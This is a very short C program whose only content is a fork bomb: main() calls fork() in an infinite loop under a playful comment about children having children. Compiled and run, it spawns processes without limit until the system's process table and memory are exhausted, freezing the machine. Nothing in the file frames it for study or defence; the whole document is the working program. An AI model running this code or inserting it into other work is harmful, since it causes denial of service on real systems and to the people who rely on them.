/* Children that have children, as many as there may be. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
